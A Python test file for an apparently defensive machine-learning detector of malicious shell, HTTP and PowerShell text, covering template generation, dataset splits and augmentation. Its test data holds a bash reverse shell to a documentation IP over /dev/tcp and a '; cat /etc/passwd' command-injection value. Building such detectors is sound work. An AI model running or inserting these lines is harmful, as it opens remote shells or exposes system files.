"""Texts come from templates alone, the same for the same seed, and no template is both learned from and tested on."""

import random
from collections import Counter

import msgspec
import pytest

from analyzers.bert.canonical import SOURCES, canonical
from analyzers.learning import grammar
from analyzers.learning.augment import JOINERS, UNSEEN_JOINERS, Augmenter, pad, pad_words, percent_encode, wrap
from analyzers.learning.grammar import GrammarError, Writer, templates
from analyzers.learning.texts import ALIKE, LABELS, UNSAID, Text, benign_pool, epoch, generated, part_of, prepare


def test_every_template_can_be_written_out():
    writer = Writer(random.Random(1))
    for template in templates():
        assert template.source in SOURCES
        assert set(template.labels) <= set(LABELS)
        for _ in range(3):
            text = writer.write(template.text)
            assert not set(text) & set("‹›¦«»⏎"), template.text


def test_every_label_has_texts_and_every_source_benign_ones():
    train = generated("train", 0.02, 0)
    assert {label for text in train for label in text.labels} == set(LABELS)
    assert {text.source for text in train if not text.labels} == set(SOURCES) - {"unknown"}


def test_the_same_seed_writes_the_same_texts():
    assert generated("train", 0.005, 3) == generated("train", 0.005, 3)
    assert generated("train", 0.005, 3) != generated("train", 0.005, 4)


def test_no_template_is_in_two_parts():
    sizes = Counter(template.family for template in templates())
    parts = Counter(part_of(template, sizes) for template in templates())
    assert parts["train"] > 6 * parts["test"] > 0
    assert parts["valid"] > 0
    # A text of a test template is never written for training, whatever the slots.
    fixed = [t for t in templates() if part_of(t, sizes) == "test" and not set(t.text) & set("‹«")]
    assert fixed
    trained = {text.text for text in generated("train", 0.2, 0)}
    assert not trained & {template.text for template in fixed}


def test_a_family_can_be_left_out():
    families = {text.family for text in generated("train", 0.02, 0, ("reverse-perl", "sqli-union"))}
    assert "reverse-python" in families
    assert not families & {"reverse-perl", "sqli-union"}


@pytest.mark.parametrize("line", ["a ‹b", "a «b", "a «nosuchslot» b"])
def test_a_broken_template_is_refused_by_its_line(line, monkeypatch):
    content = {"shell_benign": ["@ source=shell family=x", "ls", line], "slots": ["word: a | b"]}
    monkeypatch.setattr(grammar, "_lines", lambda name: content.get(name, []))
    monkeypatch.setattr(grammar, "words", lambda: {"word": ("a", "b")})
    with pytest.raises(GrammarError, match=r"shell_benign\.txt:3"):
        grammar.templates.__wrapped__()


def test_a_changed_text_still_holds_what_it_was():
    rng = random.Random(1)
    benign = ["ls -la", "echo hello"]
    attack = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    assert attack in wrap(attack, rng, benign, JOINERS["shell"], (2, 2))
    padded = pad(attack, rng, benign, ("; ", " && "), (64, 300))
    assert padded[64 + 2 :].startswith(attack + " && ")
    assert len(padded) == len(attack) + 64 + 2 + 4 + 300
    assert pad(attack, rng, benign, ("; ", "; "), (0, 8)).startswith(attack + "; ")
    assert pad_words(attack, rng, benign).count(attack) == 1
    encoded = percent_encode(percent_encode(attack, rng, 0.5), rng, 0.5)
    assert attack not in encoded
    assert canonical(encoded, "http").text == attack


def test_joiners_of_the_tests_are_not_trained_on():
    for source in ("shell", "powershell", "http", "user-agent"):
        assert not set(JOINERS[source]) & set(UNSEEN_JOINERS[source])


def test_benign_and_malicious_texts_are_changed_alike():
    """What was changed must not tell what a text is."""
    texts = [text for text in generated("train", 0.05, 0) if text.source == "shell"]
    changed = {True: 0, False: 0}
    count = Counter(bool(text.labels) for text in texts)
    augmenter = Augmenter(random.Random(2), benign_pool(texts))
    for text in texts:
        changed[bool(text.labels)] += prepare(text) != prepare(
            msgspec.structs.replace(text, text=augmenter.change(text.text, "shell"))
        )
    shares = [changed[label] / count[label] for label in (True, False)]
    assert shares[0] == pytest.approx(shares[1], abs=0.1)


def test_of_a_text_from_nobody_knows_where_the_kind_of_command_is_not_said():
    """Else a command of no known source is half of each kind, and none of them is probable."""
    place = {label: LABELS.index(label) for label in LABELS}
    injected = Text("; cat /etc/passwd", "http", ("cmdi",), "f")
    told, untold = prepare(injected).targets, prepare(injected, "unknown").targets
    assert set(told) == {0, 1}
    assert [untold[place[label]] for label in ALIKE] == [1, UNSAID, UNSAID]
    assert untold[place["sqli"]] == 0
    assert prepare(injected, "unknown").malicious
    benign = prepare(Text("ls", "shell", (), "f"), "unknown")
    assert set(benign.targets) == {0}
    assert not benign.malicious


def test_an_epoch_tells_the_source_of_most_texts_only():
    seen = epoch(generated("train", 0.01, 0), 1)
    untold = sum(SOURCES[text.source] == "unknown" for text in seen) / len(seen)
    assert 0.25 < untold < 0.45
    assert epoch(generated("train", 0.01, 0), 1) == seen
